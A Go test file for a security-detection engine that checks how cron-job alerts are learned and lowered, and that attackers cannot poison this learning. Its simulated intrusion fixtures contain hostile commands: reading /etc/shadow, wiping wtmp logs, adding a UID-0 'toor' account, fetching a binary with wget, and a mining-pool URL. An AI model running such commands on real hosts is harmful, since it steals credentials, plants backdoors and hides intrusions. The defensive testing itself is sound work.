package engine

import (
	"bytes"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/bulkheadhq/bulkhead/agent/activity"
	"github.com/bulkheadhq/bulkhead/agent/batch"
	"github.com/bulkheadhq/bulkhead/agent/linuxaudit"
	"github.com/bulkheadhq/bulkhead/internal/services/security/alerts"
	"github.com/bulkheadhq/bulkhead/internal/services/security/detect"
	"github.com/bulkheadhq/bulkhead/internal/store"
)

const day = 24 * time.Hour

// job is one run of a script that cron starts: what it runs, in a session of its own.
type job struct {
	script  string
	hash    byte
	does    [][]string
	session uint32
	pid     uint32
	by      string // what began the session; "" is cron
}

func (j *job) events(at time.Time) []activity.Event {
	millis := at.UnixMilli()
	by := j.by
	if by == "" {
		by = "/usr/sbin/cron"
	}
	of := func(pid, parent uint32, image string) activity.Process {
		return activity.Process{PID: pid, Parent: parent, AUID: 0, Session: j.session, Image: []byte(image)}
	}
	out := []activity.Event{{
		Kind: activity.Session, Began: true, Success: true, Millis: millis, Process: of(j.pid, 1, by), SignIn: activity.Access{Account: []byte("root"), Terminal: []byte("cron")},
	}}
	start := func(pid, parent uint32, file string, hash []byte, args ...string) {
		millis += 200
		e := activity.Event{
			Kind: activity.Exec, Success: true, Call: "execve", Millis: millis, Process: of(pid, parent, file),
			Command: activity.Command{File: []byte(file), Line: []byte(strings.Join(args, " ")), Dir: []byte("/root"), SHA256: hash},
		}
		for _, a := range args {
			e.Command.Args = append(e.Command.Args, []byte(a))
		}
		out = append(out, e)
	}
	start(j.pid+1, j.pid, "/usr/bin/dash", nil, "/bin/sh", "-c", j.script)
	var hash []byte
	if j.hash != 0 {
		hash = bytes.Repeat([]byte{j.hash}, 32)
	}
	start(j.pid+2, j.pid+1, j.script, hash, "/bin/bash", j.script)
	for i, args := range j.does {
		start(j.pid+3+uint32(i), j.pid+2, "/usr/bin/"+args[0], nil, args...)
	}
	return out
}

// days runs jobs once a day, beginning with batch number from, and gives the severities of the alerts of a type, day by day.
func (r *rig) days(n, from int, kind string, what func(day int) []job) (severities []alerts.Severity) {
	r.t.Helper()
	for d := range n {
		known := map[string]bool{}
		for _, a := range r.alerts() {
			known[a.Name] = true
		}
		var all []activity.Event
		for i, j := range what(d) {
			j.session, j.pid = uint32(100*(from+d)+i), uint32(10_000*(from+d)+100*i)
			all = append(all, j.events(r.clock.Now())...)
		}
		r.take(from+d, pack(r.t, all))
		for _, a := range r.alerts() {
			if !known[a.Name] && a.Type == kind {
				severities = append(severities, a.Severity)
			}
		}
		r.clock.Advance(day)
	}
	return severities
}

var upload = []string{"curl", "-T", "/srv/backup/all.tgz", "https://store.example/2026"}

// TestLearn: what a job does always is lowered after LearnDays days, and says why. What is High is not, nor what another file of its name does, what it does elsewhere, or what nobody knows the
// file of.
func TestLearn(t *testing.T) {
	t.Parallel()
	const egress = "VM_DataEgressArtifacts"
	same := func(j job) func(int) []job { return func(int) []job { return []job{j} } }
	backup := job{script: "/opt/backup.sh", hash: 1, does: [][]string{upload}}
	m, i := alerts.Medium, alerts.Informational
	for _, c := range []struct {
		name, kind string
		what       func(int) []job
		want       []alerts.Severity
	}{
		{"the same each day", egress, same(backup), []alerts.Severity{m, m, m, m, m, i, i}},
		{"the file is changed", egress, func(d int) []job {
			j := backup
			if d == 6 {
				j.hash = 2
			}
			return []job{j}
		}, []alerts.Severity{m, m, m, m, m, i, m}},
		{"it sends to somewhere else", egress, func(d int) []job {
			j := backup
			if d == 6 {
				j.does = [][]string{{"curl", "-T", "/srv/backup/all.tgz", "https://drop.example/2026"}}
			}
			return []job{j}
		}, []alerts.Severity{m, m, m, m, m, i, m}},
		{"what is High", "VM_DigitalCurrencyMining", same(job{script: "/opt/x.sh", hash: 1, does: [][]string{{"nice", "/usr/bin/x", "-o", "stratum+tcp://pool.example:3333"}}}), []alerts.Severity{"High", "High", "High", "High", "High", "High", "High"}},
		{"the agent doesn't know the file", egress, same(job{script: "/opt/backup.sh", does: [][]string{upload}}), []alerts.Severity{m, m, m, m, m, m, m}},
		{"from where everybody may write", egress, same(job{script: "/var/tmp/backup.sh", hash: 1, does: [][]string{upload}}), []alerts.Severity{m, m, m, m, m, m, m}},
		{"somebody signed in", egress, same(job{script: "/opt/backup.sh", hash: 1, does: [][]string{upload}, by: "/usr/sbin/sshd"}), []alerts.Severity{m, m, m, m, m, m, m}},
		{"many times on one day", egress, func(int) []job { return []job{backup, backup, backup} }, slices.Concat(slices.Repeat([]alerts.Severity{m}, 15), slices.Repeat([]alerts.Severity{i}, 6))},
	} {
		r := open(t, newStore(t), nil)
		got := r.days(7, 1, c.kind, c.what)
		if !slices.Equal(got, c.want) {
			t.Errorf("%s: %v, want %v", c.name, got, c.want)
		}
		for _, a := range r.alerts() {
			if why := a.Extended[learnedKey]; (a.Lowered != "") != (why != "") || why != "" && (!strings.Contains(why, "lowered from Medium") || !strings.Contains(why, "/opt/backup.sh") || !strings.Contains(why, "5 other days")) {
				t.Errorf("%s: %s, lowered from %q: %q", c.name, a.Type, a.Lowered, why)
			}
		}
	}
}

// TestLearn_Restart: what was learned is in the store.
func TestLearn_Restart(t *testing.T) {
	t.Parallel()
	st := newStore(t)
	r := open(t, st, nil)
	what := func(int) []job { return []job{{script: "/opt/backup.sh", hash: 1, does: [][]string{upload}}} }
	r.days(LearnDays, 1, "VM_DataEgressArtifacts", what)
	now := r.clock.Now()
	r = open(t, st, nil)
	r.clock.Advance(now.Sub(r.clock.Now()))
	if got := r.days(1, LearnDays+1, "VM_DataEgressArtifacts", what); !slices.Equal(got, []alerts.Severity{alerts.Informational}) {
		t.Errorf("after a restart: %v", got)
	}
	r.clock.Advance((learnWithin + 1) * day)
	if err := r.engine.Upkeep(t.Context()); err != nil {
		t.Fatal(err)
	}
	if n := r.patterns(); n != 0 {
		t.Errorf("%d patterns are kept for ever", n)
	}
}

func (r *rig) patterns() (n int) {
	r.t.Helper()
	err := r.store.View(r.t.Context(), alerts.Shard(subscription), func(s store.Snapshot) error {
		return s.Scan(store.Prefix([]byte(patternPrefix)), func(_, _ []byte) bool { n++; return true })
	})
	if err != nil {
		r.t.Fatal(err)
	}
	return n
}

// TestLearn_Bounded: a machine that gives new patterns all the time has no more than its places, and doesn't push out what was learned before.
func TestLearn_Bounded(t *testing.T) {
	t.Parallel()
	x := shelf{patterns: map[string][]byte{}}
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	enter := func(shape string, at time.Time) alerts.Severity {
		a := alerts.Alert{Machine: machineID, Severity: alerts.Low, Job: &detect.Job{Shape: shape, Script: "/opt/x"}}
		if err := x.learn(&page{}, &a, at); err != nil {
			t.Fatal(err)
		}
		return a.Severity
	}
	for d := range LearnDays {
		enter("00010000000000000000000000000000", now.Add(time.Duration(d)*day))
	}
	now = now.Add(LearnDays * day)
	for i := range 5000 {
		enter(strings.Replace("XXXX1111111111111111111111111111", "XXXX", string([]byte{"0123456789abcdef"[i>>12&15], "0123456789abcdef"[i>>8&15], "0123456789abcdef"[i>>4&15], "0123456789abcdef"[i&15]}), 1), now)
	}
	if len(x.patterns) > patternSlots {
		t.Errorf("%d patterns", len(x.patterns))
	}
	if got := enter("00010000000000000000000000000000", now.Add(day)); got != alerts.Informational {
		t.Errorf("what was learned is gone: %s", got)
	}
}

// TestLearn_Incident: what was part of an incident isn't learned, and what had been lowered has its severity again.
func TestLearn_Incident(t *testing.T) {
	t.Parallel()
	r := correlating(t, newStore(t))
	bad := [][]string{upload, {"cat", "/etc/shadow"}, {"shred", "-u", "/var/log/wtmp"}, {"useradd", "-o", "-u", "0", "toor"}}
	what := func(d int) []job {
		j := job{script: "/opt/backup.sh", hash: 1, does: [][]string{upload}}
		if d >= 6 {
			j.does = bad
		}
		return []job{j}
	}
	got := r.days(6, 1, "VM_DataEgressArtifacts", what)
	if got[5] != alerts.Informational {
		t.Fatalf("not learned: %v", got)
	}
	r.days(1, 7, "VM_DataEgressArtifacts", func(int) []job { return what(6) })
	in := r.whole()
	if len(in) != 1 {
		t.Fatalf("%d incidents", len(in))
	}
	members := 0
	for _, a := range r.alerts() {
		if a.Incident != "" && a.Type == "VM_DataEgressArtifacts" {
			members++
			if a.Severity != alerts.Medium || a.Lowered != "" || a.Extended[learnedKey] != "" {
				t.Errorf("in an incident: %s, %q, %v", a.Severity, a.Lowered, a.Extended)
			}
		}
	}
	if members == 0 {
		t.Error("the upload is in no incident")
	}
	if got := r.days(7, 8, "VM_DataEgressArtifacts", func(int) []job { return what(0) }); slices.Contains(got, alerts.Informational) {
		t.Errorf("learned though it was part of an incident: %v", got)
	}
}

// TestLearn_Poisoned: an intruder who has cron do his single steps for days, so that they are known, hides nothing of the intrusion: it is one incident, of as many alerts as without. If its own
// sessions say that they are cron's, and its files have hashes, it isn't learned however often it comes.
func TestLearn_Poisoned(t *testing.T) {
	t.Parallel()
	plain := correlating(t, newStore(t))
	for i, packed := range intrusion(t, 40) {
		plain.take(i+1, packed)
	}
	want := plain.whole()
	if len(want) != 1 {
		t.Fatalf("%d incidents", len(want))
	}
	began := time.Date(2018, 11, 20, 1, 0, 0, 0, time.UTC)
	for _, c := range []struct {
		name   string
		cron   bool
		rounds int
		least  int
	}{
		{"in sessions of its own", false, 1, len(want[0].Members)},
		{"by cron, again and again", true, LearnDays + 2, 20}, // what asks about the host all day is expected of cron
	} {
		r := correlating(t, newStore(t))
		steps := [][]string{{"wget", "http://nasapaul.com/x"}, {"lspci"}, {"chmod", "+x", "1", "a", "all", "pass", "port", "sshd", "x"}, {"rm", "-rf", "kit"}}
		r.days(2*LearnDays, 1, "", func(d int) []job { return []job{{script: "/opt/a.sh", hash: 1, does: steps[d%3 : d%3+2]}} })
		lowered := 0
		for _, a := range r.alerts() {
			if a.Lowered != "" {
				lowered++
			}
		}
		seq := 2 * LearnDays
		for range c.rounds {
			for _, packed := range intrusion(t, 40) {
				seq++
				r.take(seq, disguised(t, packed, r.clock.Now().Sub(began), c.cron))
			}
			r.clock.Advance(day)
		}
		in := r.whole()
		if len(in) != 1 || in[0].Severity != alerts.High || len(in[0].Members) < c.least {
			t.Errorf("%s: %d incidents", c.name, len(in))
			for _, x := range in {
				t.Errorf("%s, %d members, want %d: %s", x.Severity, len(x.Members), c.least, x.Intent)
			}
		}
		for _, a := range r.alerts() {
			if a.Lowered != "" && a.Incident != "" {
				t.Errorf("%s: %s is lowered and in an incident", c.name, a.DisplayName)
			}
		}
		t.Logf("%s: %d alerts of the steps had been lowered", c.name, lowered)
	}
}

// disguised is a batch at another time, in sessions of which the first event says that cron began them, of files that all have a hash.
func disguised(t *testing.T, packed []byte, later time.Duration, cron bool) []byte {
	t.Helper()
	b, err := batch.Decode(packed)
	if err != nil {
		t.Fatal(err)
	}
	var all []activity.Event
	begun := map[uint32]bool{}
	for _, e := range b.Events {
		e.Millis += later.Milliseconds()
		if n := e.Process.Session; cron && n != linuxaudit.Unset && n != 0 && !begun[n] {
			begun[n] = true
			all = append(all, activity.Event{Kind: activity.Session, Began: true, Success: true, Millis: e.Millis, Process: activity.Process{PID: 5, Session: n, Image: []byte("/usr/sbin/cron")}})
		}
		if e.Kind == activity.Exec {
			e.Command.SHA256 = bytes.Repeat([]byte{9}, 32)
		}
		all = append(all, e)
	}
	return pack(t, all)
}
